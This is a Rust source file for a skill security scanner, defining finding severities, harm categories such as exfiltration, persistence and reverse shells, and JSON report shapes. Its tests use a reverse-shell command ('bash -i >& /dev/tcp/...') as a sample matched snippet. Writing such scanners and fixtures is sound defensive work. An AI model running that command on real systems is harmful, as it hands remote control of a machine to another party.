//! What `skills audit` finds in a skill (issue 31): findings, one report per skill, and what
//! the caller asks for.
//!
//! The JSON of a [`Report`] is the shape skillhub's scanner integration reads from Cisco's
//! `skill-scanner` (`is_safe`, `max_severity`, `findings_count`, `findings`, each finding with
//! `rule_id`, `severity`, `category`, `title`, `description`, `file_path`, `line_number`,
//! `snippet`, `remediation`, `analyzer`), so an operator can put this scanner where that one
//! was. Beside those names each finding also carries this project's own: `message` (the same
//! text as `description`) and `location` (`file`, `line`, `column`). Severities are written in
//! capitals as that integration expects (`"HIGH"`), and a report with no finding has
//! `max_severity` `"SAFE"`. Nothing in a report depends on the clock or the machine: the same
//! files and rules give the same bytes.

use std::fmt;
use std::path::PathBuf;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

/// How bad a finding is, from least to most: the order is the derive's.
#[derive(
    Clone,
    Copy,
    Debug,
    PartialEq,
    Eq,
    PartialOrd,
    Ord,
    Hash,
    Serialize,
    Deserialize,
    schemars::JsonSchema,
)]
#[serde(rename_all = "UPPERCASE")]
pub enum Severity {
    /// Worth knowing; never blocks.
    Info,
    /// Unusual, rarely harmful.
    Low,
    /// Harmful in some settings; read it.
    Medium,
    /// Does something a user would not agree to without reading it: asks on install.
    High,
    /// Steals, destroys, or takes over: refuses install and run until accepted.
    Critical,
}

impl Severity {
    /// Every severity, least first.
    pub const ALL: [Self; 5] = [
        Self::Info,
        Self::Low,
        Self::Medium,
        Self::High,
        Self::Critical,
    ];

    /// The lowercase word (`high`): what the CLI and the configuration take.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Info => "info",
            Self::Low => "low",
            Self::Medium => "medium",
            Self::High => "high",
            Self::Critical => "critical",
        }
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(self.as_str())
    }
}

impl FromStr for Severity {
    type Err = String;

    /// Any case: `high`, `HIGH`, `High`.
    fn from_str(text: &str) -> Result<Self, Self::Err> {
        Self::ALL
            .into_iter()
            .find(|severity| severity.as_str().eq_ignore_ascii_case(text))
            .ok_or_else(|| {
                format!("`{text}` is not a severity (one of: info, low, medium, high, critical)")
            })
    }
}

/// What kind of harm a finding is about. The names that Cisco's `skill-scanner` also uses
/// are spelled as it spells them, so a dashboard that groups by category groups both.
#[derive(
    Clone,
    Copy,
    Debug,
    PartialEq,
    Eq,
    PartialOrd,
    Ord,
    Hash,
    Serialize,
    Deserialize,
    schemars::JsonSchema,
)]
#[serde(rename_all = "snake_case")]
pub enum Category {
    /// Text that tries to take over the agent: override, role change, hiding actions.
    PromptInjection,
    /// Running commands built from untrusted text, or downloaded code.
    CommandInjection,
    /// Sending data off the machine.
    DataExfiltration,
    /// Reading credential stores, keys, tokens, other processes' environments.
    CredentialAccess,
    /// Tools or permissions wider than the skill needs.
    UnauthorizedToolUse,
    /// Code or text hidden by encoding, packing or escapes.
    Obfuscation,
    /// Keys and tokens committed in the skill.
    HardcodedSecrets,
    /// Pressure on the user or the agent: urgency, authority, impersonation.
    SocialEngineering,
    /// Mining, fork bombs, unbounded work.
    ResourceAbuse,
    /// Against the format or the user's configuration.
    PolicyViolation,
    /// Known malicious behaviour: reverse shells, droppers.
    Malware,
    /// Invisible characters that change what a reader or a model sees.
    UnicodeSteganography,
    /// Packages or code fetched and installed at run time; names imitating other skills.
    SupplyChainAttack,
    /// Surviving the run: shell rc files, cron, launch agents, git hooks.
    Persistence,
    /// Deleting or overwriting what is not the skill's.
    DestructiveAction,
}

impl Category {
    /// The snake_case name, as in the JSON.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::PromptInjection => "prompt_injection",
            Self::CommandInjection => "command_injection",
            Self::DataExfiltration => "data_exfiltration",
            Self::CredentialAccess => "credential_access",
            Self::UnauthorizedToolUse => "unauthorized_tool_use",
            Self::Obfuscation => "obfuscation",
            Self::HardcodedSecrets => "hardcoded_secrets",
            Self::SocialEngineering => "social_engineering",
            Self::ResourceAbuse => "resource_abuse",
            Self::PolicyViolation => "policy_violation",
            Self::Malware => "malware",
            Self::UnicodeSteganography => "unicode_steganography",
            Self::SupplyChainAttack => "supply_chain_attack",
            Self::Persistence => "persistence",
            Self::DestructiveAction => "destructive_action",
        }
    }
}

impl fmt::Display for Category {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(self.as_str())
    }
}

/// Where in the skill a finding is: a file relative to the skill folder (`/`-separated),
/// and a 1-based line and column; line 0 means the whole file.
#[derive(
    Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, schemars::JsonSchema,
)]
pub struct Location {
    /// The file, relative to the skill folder.
    pub file: String,
    /// The line, from 1; 0 for the whole file.
    pub line: u32,
    /// The column in characters, from 1; 0 for the whole line.
    pub column: u32,
}

/// One thing a rule found.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(from = "FindingWire", into = "FindingWire")]
#[non_exhaustive]
pub struct Finding {
    /// The rule, stable across releases (`SCRIPT_REVERSE_SHELL`).
    pub rule_id: String,
    /// How bad.
    pub severity: Severity,
    /// What kind of harm.
    pub category: Category,
    /// The rule's one-line name.
    pub title: String,
    /// What was found here, in a sentence.
    pub message: String,
    /// Where.
    pub location: Location,
    /// The text that matched, sanitised and cut to one short line.
    pub snippet: String,
    /// What to do about it.
    pub remediation: String,
    /// The analyzer whose rule it is (`instructions`, `hidden`, `scripts`, `manifest`,
    /// `rules`).
    pub analyzer: String,
}

impl Finding {
    /// A finding; the snippet is kept as given (the analyzers sanitise it).
    #[expect(
        clippy::too_many_arguments,
        reason = "every field is required and named"
    )]
    pub fn new(
        rule_id: impl Into<String>,
        severity: Severity,
        category: Category,
        title: impl Into<String>,
        message: impl Into<String>,
        location: Location,
        snippet: impl Into<String>,
        remediation: impl Into<String>,
        analyzer: impl Into<String>,
    ) -> Self {
        Self {
            rule_id: rule_id.into(),
            severity,
            category,
            title: title.into(),
            message: message.into(),
            location,
            snippet: snippet.into(),
            remediation: remediation.into(),
            analyzer: analyzer.into(),
        }
    }

    /// The finding's stable identity: the rule and the place (`RULE@file:line:column`).
    pub fn id(&self) -> String {
        format!(
            "{}@{}:{}:{}",
            self.rule_id, self.location.file, self.location.line, self.location.column
        )
    }
}

/// A finding as written: this project's names and the skillhub integration's together.
#[derive(Serialize, Deserialize, schemars::JsonSchema)]
struct FindingWire {
    #[serde(default)]
    id: String,
    rule_id: String,
    severity: Severity,
    category: Category,
    title: String,
    message: String,
    /// The same text as `message`: the name skillhub reads.
    #[serde(default)]
    description: String,
    location: Location,
    /// `location.file`: the name skillhub reads.
    #[serde(default)]
    file_path: String,
    /// `location.line`: the name skillhub reads.
    #[serde(default)]
    line_number: u32,
    snippet: String,
    remediation: String,
    analyzer: String,
}

impl From<Finding> for FindingWire {
    fn from(finding: Finding) -> Self {
        Self {
            id: finding.id(),
            description: finding.message.clone(),
            file_path: finding.location.file.clone(),
            line_number: finding.location.line,
            rule_id: finding.rule_id,
            severity: finding.severity,
            category: finding.category,
            title: finding.title,
            message: finding.message,
            location: finding.location,
            snippet: finding.snippet,
            remediation: finding.remediation,
            analyzer: finding.analyzer,
        }
    }
}

impl From<FindingWire> for Finding {
    fn from(wire: FindingWire) -> Self {
        Self {
            rule_id: wire.rule_id,
            severity: wire.severity,
            category: wire.category,
            title: wire.title,
            message: wire.message,
            location: wire.location,
            snippet: wire.snippet,
            remediation: wire.remediation,
            analyzer: wire.analyzer,
        }
    }
}

/// A file the scan read only in part, and why.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
pub struct Skipped {
    /// The file, relative to the skill folder.
    pub file: String,
    /// Why (`read the first 1048576 bytes of 5242880`, `a link out of the skill`).
    pub reason: String,
}

/// What one skill's scan found.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[non_exhaustive]
pub struct Report {
    /// The skill's name (its frontmatter `name`, else its folder's name).
    pub skill_name: String,
    /// Its folder, as given or as discovered.
    pub skill_path: PathBuf,
    /// No finding at or above the threshold the scan was asked with.
    pub is_safe: bool,
    /// The worst severity found; `None` (written `"SAFE"`) when nothing was.
    #[serde(with = "max_severity")]
    #[schemars(with = "String")]
    pub max_severity: Option<Severity>,
    /// `findings.len()`.
    pub findings_count: usize,
    /// Every finding, worst first, then by file, line, column and rule.
    pub findings: Vec<Finding>,
    /// The version of the rules that scanned: a change means an earlier verdict is stale.
    pub rules_version: String,
    /// The digest of the skill's files as scanned (`sha256:`…): what an acceptance binds to.
    pub digest: String,
    /// Files read only in part or not at all.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub skipped: Vec<Skipped>,
    /// Findings the user accepted for this digest: still listed, no longer blocking.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub accepted: Vec<String>,
}

impl Report {
    /// A report of `findings` (sorted by the caller), its verdict taken against `fail_on`.
    pub fn new(
        skill_name: String,
        skill_path: PathBuf,
        findings: Vec<Finding>,
        fail_on: Severity,
        rules_version: &str,
        digest: String,
        skipped: Vec<Skipped>,
    ) -> Self {
        let max_severity = findings.iter().map(|finding| finding.severity).max();
        Self {
            skill_name,
            skill_path,
            is_safe: max_severity.is_none_or(|worst| worst < fail_on),
            max_severity,
            findings_count: findings.len(),
            findings,
            rules_version: rules_version.to_owned(),
            digest,
            skipped,
            accepted: Vec::new(),
        }
    }

    /// The findings at or above `threshold` that the user has not accepted.
    pub fn blocking(&self, threshold: Severity) -> impl Iterator<Item = &Finding> {
        self.findings.iter().filter(move |finding| {
            finding.severity >= threshold && !self.accepted.contains(&finding.rule_id)
        })
    }
}

mod max_severity {
    //! `max_severity` as skillhub reads it: a severity in capitals, or `"SAFE"`.

    use serde::{Deserialize, Deserializer, Serialize, Serializer};

    use super::Severity;

    const SAFE: &str = "SAFE";

    pub(super) fn serialize<S: Serializer>(
        value: &Option<Severity>,
        serializer: S,
    ) -> Result<S::Ok, S::Error> {
        match value {
            Some(severity) => severity.serialize(serializer),
            None => serializer.serialize_str(SAFE),
        }
    }

    pub(super) fn deserialize<'de, D: Deserializer<'de>>(
        deserializer: D,
    ) -> Result<Option<Severity>, D::Error> {
        let text = String::deserialize(deserializer)?;
        if text == SAFE {
            return Ok(None);
        }
        text.parse().map(Some).map_err(serde::de::Error::custom)
    }
}

/// The reports of several skills, with their totals (the shape of `skill-scanner`'s
/// multi-skill report: `summary` and `results`).
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[non_exhaustive]
pub struct Summary {
    /// Skills scanned.
    pub total_skills_scanned: usize,
    /// Findings over all of them.
    pub total_findings: usize,
    /// Skills with no finding at or above the threshold.
    pub safe_skills: usize,
    /// Findings by severity, every severity present (lowercase keys).
    pub findings_by_severity: std::collections::BTreeMap<String, usize>,
    /// Skills that could not be scanned, with why.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub skills_skipped: Vec<Skipped>,
}

/// Several reports and their summary.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[non_exhaustive]
pub struct Reports {
    /// The totals.
    pub summary: Summary,
    /// One report per skill, in the order asked (or the catalog's order).
    pub results: Vec<Report>,
}

impl Reports {
    /// The reports with their totals computed.
    pub fn new(results: Vec<Report>, skills_skipped: Vec<Skipped>) -> Self {
        let mut findings_by_severity: std::collections::BTreeMap<String, usize> = Severity::ALL
            .iter()
            .map(|severity| (severity.as_str().to_owned(), 0))
            .collect();
        for finding in results.iter().flat_map(|report| &report.findings) {
            *findings_by_severity
                .entry(finding.severity.as_str().to_owned())
                .or_default() += 1;
        }
        Self {
            summary: Summary {
                total_skills_scanned: results.len(),
                total_findings: results.iter().map(|report| report.findings.len()).sum(),
                safe_skills: results.iter().filter(|report| report.is_safe).count(),
                findings_by_severity,
                skills_skipped,
            },
            results,
        }
    }
}

/// What to scan and how.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[non_exhaustive]
pub struct Request {
    /// Skill folders or catalog names; empty: every skill of the catalog, every scope.
    #[serde(default)]
    pub targets: Vec<String>,
    /// A report is not safe when it has a finding at or above this (default high).
    #[serde(default = "default_fail_on")]
    pub fail_on: Severity,
}

fn default_fail_on() -> Severity {
    Severity::High
}

impl Request {
    /// Every skill of the catalog, failing on high.
    pub fn new() -> Self {
        Self {
            targets: Vec::new(),
            fail_on: default_fail_on(),
        }
    }

    /// These targets instead.
    pub fn with_targets(mut self, targets: Vec<String>) -> Self {
        self.targets = targets;
        self
    }

    /// This threshold instead.
    pub fn with_fail_on(mut self, fail_on: Severity) -> Self {
        self.fail_on = fail_on;
        self
    }
}

impl Default for Request {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(severity: Severity) -> Finding {
        Finding::new(
            "SCRIPT_REVERSE_SHELL",
            severity,
            Category::Malware,
            "Reverse shell",
            "connects a shell to 10.0.0.1:4444",
            Location {
                file: "scripts/run.sh".into(),
                line: 3,
                column: 1,
            },
            "bash -i >& /dev/tcp/10.0.0.1/4444",
            "Remove the connection.",
            "scripts",
        )
    }

    fn report(findings: Vec<Finding>) -> Report {
        Report::new(
            "x".into(),
            "x".into(),
            findings,
            Severity::High,
            "1",
            "sha256:00".into(),
            Vec::new(),
        )
    }

    #[test]
    fn severities_order_from_info_to_critical_and_parse_in_any_case() {
        assert!(Severity::Info < Severity::Low && Severity::High < Severity::Critical);
        assert_eq!("HiGh".parse::<Severity>(), Ok(Severity::High));
        assert!("severe".parse::<Severity>().is_err());
    }

    #[test]
    fn a_finding_is_written_with_both_name_sets_and_read_back() {
        let finding = finding(Severity::Critical);
        let value = serde_json::to_value(&finding).unwrap();
        assert_eq!(value["severity"], "CRITICAL");
        assert_eq!(value["category"], "malware");
        assert_eq!(value["description"], value["message"]);
        assert_eq!(value["file_path"], "scripts/run.sh");
        assert_eq!(value["line_number"], 3);
        assert_eq!(value["location"]["column"], 1);
        assert_eq!(value["id"], "SCRIPT_REVERSE_SHELL@scripts/run.sh:3:1");
        assert_eq!(serde_json::from_value::<Finding>(value).unwrap(), finding);
    }

    #[test]
    fn max_severity_is_safe_when_nothing_was_found() {
        let clean = serde_json::to_value(report(Vec::new())).unwrap();
        assert_eq!(clean["max_severity"], "SAFE");
        assert_eq!(clean["is_safe"], true);
        let flagged = report(vec![finding(Severity::High)]);
        let value = serde_json::to_value(&flagged).unwrap();
        assert_eq!(value["max_severity"], "HIGH");
        assert_eq!(value["findings_count"], 1);
        assert_eq!(serde_json::from_value::<Report>(value).unwrap(), flagged);
    }

    #[test]
    fn an_accepted_rule_stops_blocking_and_others_still_block() {
        let mut flagged = report(vec![finding(Severity::Critical)]);
        assert_eq!(flagged.blocking(Severity::Critical).count(), 1);
        flagged.accepted.push("SCRIPT_REVERSE_SHELL".into());
        assert_eq!(flagged.blocking(Severity::Critical).count(), 0);
        assert_eq!(flagged.blocking(Severity::Info).count(), 0);
    }

    #[test]
    fn the_summary_counts_every_severity() {
        let reports = Reports::new(
            vec![report(vec![finding(Severity::High)]), report(Vec::new())],
            Vec::new(),
        );
        assert_eq!(reports.summary.total_skills_scanned, 2);
        assert_eq!(reports.summary.total_findings, 1);
        assert_eq!(reports.summary.safe_skills, 1);
        assert_eq!(reports.summary.findings_by_severity["high"], 1);
        assert_eq!(reports.summary.findings_by_severity["critical"], 0);
    }
}
